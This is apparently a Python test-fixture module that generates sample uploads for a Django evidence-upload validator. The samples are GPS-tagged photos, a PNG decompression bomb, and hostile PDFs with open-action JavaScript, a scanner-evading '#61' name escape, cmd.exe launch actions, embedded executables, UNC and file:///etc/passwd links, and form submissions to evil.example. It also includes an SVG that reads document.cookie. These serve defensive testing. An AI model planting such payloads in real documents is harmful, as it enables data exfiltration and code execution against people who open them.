"""Real evidence files, made in code (Pillow, pillow_heif, pypdf) so no binaries are committed.

Each function returns the file's bytes; ``upload()`` wraps bytes as a browser upload would.
"""

import io
import os
import struct
import zipfile
import zlib

import pillow_heif
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript, PageTrigger
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

pillow_heif.register_heif_opener()

RED = (255, 0, 0)
BLUE = (0, 0, 255)
# Nakhon Sawan city hall, roughly: 15°42'N 100°07'E.
GPS = {1: "N", 2: (15.0, 42.0, 30.5), 3: "E", 4: (100.0, 7.0, 12.25)}


def upload(name: str, content: bytes, content_type: str = "image/jpeg") -> SimpleUploadedFile:
    """As Django hands a browser upload to a view; the content type is the browser's claim."""
    return SimpleUploadedFile(name, content, content_type=content_type)


def phone_exif(orientation: int = 1) -> bytes:
    """EXIF as a phone writes it: camera make/model, time taken, GPS position, orientation."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "Apple"
    exif[0x0110] = "iPhone 13"
    exif.get_ifd(0x8769)[0x9003] = "2026:03:15 09:30:00"
    gps = exif.get_ifd(0x8825)
    gps.update(GPS)
    return exif.tobytes()


def two_colour_image(size=(40, 20)) -> Image.Image:
    """Left half red, right half blue: shows which way an image was turned."""
    image = Image.new("RGB", size, RED)
    image.paste(BLUE, (size[0] // 2, 0, size[0], size[1]))
    return image


def jpeg(size=(40, 20), *, orientation: int = 1, colour=None, quality: int = 95) -> bytes:
    """A phone photo: JPEG with GPS EXIF. With orientation 6 the camera stored it sideways."""
    image = Image.new("RGB", size, colour) if colour else two_colour_image(size)
    out = io.BytesIO()
    image.save(out, format="JPEG", exif=phone_exif(orientation), quality=quality)
    return out.getvalue()


def png(size=(30, 60), colour=(0, 128, 0), *, mode: str = "RGB", with_metadata: bool = True):
    """A screenshot; with_metadata adds a text chunk and an eXIf chunk with GPS."""
    from PIL.PngImagePlugin import PngInfo

    image = Image.new(mode, size, colour)
    info = PngInfo()
    info.add_text("Comment", "secret-note-from-phone")
    out = io.BytesIO()
    extra = {"pnginfo": info, "exif": phone_exif()} if with_metadata else {}
    image.save(out, format="PNG", **extra)
    return out.getvalue()


def heic(size=(64, 48)) -> bytes:
    """An iPhone photo (HEIC, HEVC-coded) with GPS EXIF."""
    out = io.BytesIO()
    two_colour_image(size).save(out, format="HEIF", exif=phone_exif(), quality=80)
    return out.getvalue()


def png_bomb(width: int = 8000, height: int = 8000) -> bytes:
    """A valid greyscale PNG of width x height black pixels: tens of kilobytes on disk,
    width*height bytes once decoded. Built chunk by chunk so the test never holds the pixels."""
    compressor = zlib.compressobj(9)
    row = b"\x00" * (width + 1)  # filter byte + one byte per pixel
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", idat)
        + _chunk(b"IEND", b"")
    )


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _pdf(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _writer() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)  # A4
    return writer


def pdf() -> bytes:
    """A one-page A4 PDF, as a scanner app or "print to PDF" makes."""
    return _pdf(_writer())


def pdf_with_link() -> bytes:
    """A PDF with an ordinary web link and an open action that only shows page 1: allowed."""
    writer = _writer()
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (50, 50, 200, 80)]),
            NameObject("/A"): DictionaryObject(
                {
                    NameObject("/S"): NameObject("/URI"),
                    NameObject("/URI"): TextStringObject("https://www.nakhonsawan.go.th/"),
                }
            ),
        }
    )
    writer.add_annotation(0, link)
    writer.root_object[NameObject("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, NameObject("/Fit")]
    )
    return _pdf(writer)


def pdf_with_document_js() -> bytes:
    """JavaScript in the document's names tree (runs when the file opens)."""
    writer = _writer()
    writer.add_open_action(JavaScript("app.alert('hello');"))
    return _pdf(writer)


def pdf_with_open_action_js() -> bytes:
    """JavaScript as the catalog's /OpenAction."""
    writer = _writer()
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(
        JavaScript("this.submitForm('https://evil.example/');")
    )
    return _pdf(writer)


def pdf_with_page_open_js() -> bytes:
    """JavaScript in a page's additional actions (/AA /O)."""
    writer = _writer()
    writer.pages[0].add_action(PageTrigger.OPEN, JavaScript("app.beep(0);"))
    return _pdf(writer)


def pdf_with_hidden_js() -> bytes:
    """The open-action script with its names written as #-escapes (/J#61vaScript), the classic
    trick against scanners that search the raw bytes. Same length, so the xref stays valid."""
    data = pdf_with_open_action_js()
    old = b"/Type /Action\n/Next null\n/S /JavaScript\n/JS "
    new = b"/S /J#61vaScript\n/J#53 "
    assert old in data
    return data.replace(old, new + b" " * (len(old) - len(new)))


def pdf_with_launch() -> bytes:
    """An /OpenAction that starts a program."""
    writer = _writer()
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): TextStringObject("cmd.exe"),
        }
    )
    return _pdf(writer)


def pdf_with_attachment() -> bytes:
    """A program hidden in the document's /EmbeddedFiles."""
    writer = _writer()
    writer.add_attachment("invoice.exe", b"MZ" + b"\x90" * 64)
    return _pdf(writer)


def pdf_with_file_annotation() -> bytes:
    """A /FileAttachment annotation (a paperclip on the page holding a file)."""
    writer = _writer()
    writer.add_annotation(
        0,
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/FileAttachment"),
                NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (10, 10, 30, 30)]),
                NameObject("/FS"): DictionaryObject(
                    {
                        NameObject("/Type"): NameObject("/Filespec"),
                        NameObject("/F"): TextStringObject("payload.bat"),
                    }
                ),
            }
        ),
    )
    return _pdf(writer)


def _name(value: str) -> NameObject:
    return NameObject(value)


def _dictionary(**entries) -> DictionaryObject:
    """A PDF dictionary from keyword arguments: ``S="/GoTo"`` is ``/S /GoTo``; strings that do
    not start with "/" become text strings."""
    return DictionaryObject(
        {
            NameObject(f"/{key}"): (
                NameObject(value)
                if isinstance(value, str) and value.startswith("/")
                else TextStringObject(value)
                if isinstance(value, str)
                else value
            )
            for key, value in entries.items()
        }
    )


def _first_page_fit(writer: PdfWriter) -> ArrayObject:
    return ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])


def _rect(*values) -> ArrayObject:
    return ArrayObject([FloatObject(v) for v in values or (50, 50, 200, 80)])


# Actions (PDF 32000-1, 12.6.4) that reach outside the document, by what each reaches.
OUTSIDE_ACTIONS = {
    "goto-remote-unc": lambda w: _dictionary(
        S="/GoToR", F="\\\\evil.example\\share\\scan.pdf", D=_first_page_fit(w)
    ),
    "goto-embedded": lambda w: _dictionary(
        S="/GoToE", T=_dictionary(R="/C", N="invoice.pdf"), D=_first_page_fit(w)
    ),
    "launch": lambda w: _dictionary(S="/Launch", F="cmd.exe"),
    "uri-file": lambda w: _dictionary(S="/URI", URI="file:///etc/passwd"),
    "uri-unc": lambda w: _dictionary(S="/URI", URI="\\\\evil.example\\share"),
    "uri-relative": lambda w: _dictionary(S="/URI", URI="../secrets.txt"),
    "submit-form": lambda w: _dictionary(
        S="/SubmitForm", F=_dictionary(FS="/URL", F="https://evil.example/collect")
    ),
    "import-data": lambda w: _dictionary(S="/ImportData", F="answers.fdf"),
    "javascript": lambda w: _dictionary(S="/JavaScript", JS="app.alert(1);"),
    "rich-media": lambda w: _dictionary(S="/RichMediaExecute", TI=NameObject("/Null")),
    "sound": lambda w: _dictionary(S="/Sound", Volume=FloatObject(1)),
    "movie": lambda w: _dictionary(S="/Movie", T="clip"),
    "rendition": lambda w: _dictionary(S="/Rendition", OP=FloatObject(0)),
    "named-menu-item": lambda w: _dictionary(S="/Named", N="/SaveAs"),
    "unknown": lambda w: _dictionary(S="/NoSuchAction"),
}


def _annotation(writer: PdfWriter, **entries) -> DictionaryObject:
    return _dictionary(Type="/Annot", Subtype="/Link", Rect=_rect(), **entries)


def _form_button(writer: PdfWriter, action: DictionaryObject) -> None:
    """A push button ("ส่ง") whose press runs ``action``, in the page and the AcroForm."""
    button = writer._add_object(
        _dictionary(
            Type="/Annot",
            Subtype="/Widget",
            FT="/Btn",
            Ff=NumberObject(65536),
            T="send",
            Rect=_rect(),
            P=writer.pages[0].indirect_reference,
            A=action,
        )
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([button])
    writer.root_object[NameObject("/AcroForm")] = _dictionary(Fields=ArrayObject([button]))


def _outline(writer: PdfWriter, action: DictionaryObject) -> None:
    """A bookmark whose click runs ``action``."""
    outlines = writer._add_object(_dictionary(Type="/Outlines", Count=NumberObject(1)))
    item = writer._add_object(_dictionary(Title="หน้า 1", Parent=outlines, A=action))
    outlines.get_object().update({NameObject("/First"): item, NameObject("/Last"): item})
    writer.root_object[NameObject("/Outlines")] = outlines


# Every place an action may sit: the catalog's open action and additional actions, a page's
# additional actions, a link's action and additional actions, a form field, a bookmark, and
# the end of a harmless action's /Next chain.
ACTION_PLACES = {
    "catalog-open-action": lambda w, a: w.root_object.__setitem__(NameObject("/OpenAction"), a),
    "catalog-additional": lambda w, a: w.root_object.__setitem__(
        NameObject("/AA"), _dictionary(WC=a)
    ),
    "page-additional": lambda w, a: w.pages[0].__setitem__(NameObject("/AA"), _dictionary(O=a)),
    "link-annotation": lambda w, a: w.add_annotation(0, _annotation(w, A=a)),
    "annotation-additional": lambda w, a: w.add_annotation(0, _annotation(w, AA=_dictionary(U=a))),
    "form-field": _form_button,
    "outline": _outline,
    "next-chain": lambda w, a: w.root_object.__setitem__(
        NameObject("/OpenAction"), _dictionary(S="/GoTo", D=_first_page_fit(w), Next=a)
    ),
}


def pdf_with_action(action: str, place: str) -> bytes:
    """A one-page PDF with the action ``OUTSIDE_ACTIONS[action]`` at ``ACTION_PLACES[place]``."""
    writer = _writer()
    ACTION_PLACES[place](writer, OUTSIDE_ACTIONS[action](writer))
    return _pdf(writer)


def pdf_with_internal_actions() -> bytes:
    """What reports and scanned forms carry and stays inside the file: a table of contents
    (bookmark and link to page 2), web and mail links, "next page" buttons, a field shown or
    hidden, and an open action that shows page 1."""
    writer = _writer()
    writer.add_blank_page(width=595, height=842)
    second = ArrayObject([writer.pages[1].indirect_reference, NameObject("/Fit")])
    writer.add_annotation(0, _annotation(writer, A=_dictionary(S="/GoTo", D=second)))
    writer.add_annotation(0, _annotation(writer, Dest=second))
    for uri in (
        "https://www.nakhonsawan.go.th/",
        "http://example.go.th/",
        "mailto:ddc@example.go.th",
    ):
        writer.add_annotation(0, _annotation(writer, A=_dictionary(S="/URI", URI=uri)))
    writer.add_annotation(0, _annotation(writer, A=_dictionary(S="/Named", N="/NextPage")))
    writer.add_annotation(
        0,
        _annotation(
            writer, AA=_dictionary(E=_dictionary(S="/Hide", T="note", H=BooleanObject(False)))
        ),
    )
    _outline(writer, _dictionary(S="/GoTo", D=second))
    writer.root_object[NameObject("/OpenAction")] = _dictionary(
        S="/GoTo", D=_first_page_fit(writer), Next=_dictionary(S="/Named", N="/FirstPage")
    )
    # Tagged PDF (Word's export): structure elements' attributes sit under /A too.
    writer.root_object[NameObject("/StructTreeRoot")] = _dictionary(
        Type="/StructTreeRoot",
        K=_dictionary(Type="/StructElem", S="/P", A=_dictionary(O="/Layout", Placement="/Block")),
    )
    return _pdf(writer)


def pdf_encrypted(user_password: str = "1234") -> bytes:
    writer = _writer()
    writer.encrypt(user_password, "owner-secret")
    return _pdf(writer)


def pdf_malformed() -> bytes:
    return b"%PDF-1.7\n" + os.urandom(4000)


def pdf_truncated() -> bytes:
    data = pdf()
    return data[: len(data) // 2]


def pdf_with_broken_xref() -> bytes:
    """startxref points 7 bytes too early: lenient readers repair this, strict parsing refuses."""
    data = pdf()
    head, tail = data.rsplit(b"startxref\n", 1)
    offset, rest = tail.split(b"\n", 1)
    return head + b"startxref\n" + str(int(offset) - 7).encode() + b"\n" + rest


def pdf_of_noise(megabytes: float = 9.0) -> bytes:
    """A valid PDF holding one scan-sized image of random pixels, about ``megabytes`` in size,
    made with Pillow's PDF writer (it hex-encodes palette images: two bytes a pixel)."""
    side = int((megabytes * 1024 * 1024 / 2) ** 0.5)
    image = Image.frombytes("P", (side, side), os.urandom(side * side))
    out = io.BytesIO()
    image.save(out, format="PDF")
    return out.getvalue()


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("photo.jpg", jpeg())
    return out.getvalue()


WINDOWS_EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 48
    + (b"This program cannot be run in DOS mode.\r\n")
)
LINUX_ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 44
HTML = b"<!DOCTYPE html><html><body><script>fetch('/accounts/my-data/')</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script><rect width='10' height='10'/></svg>"
)
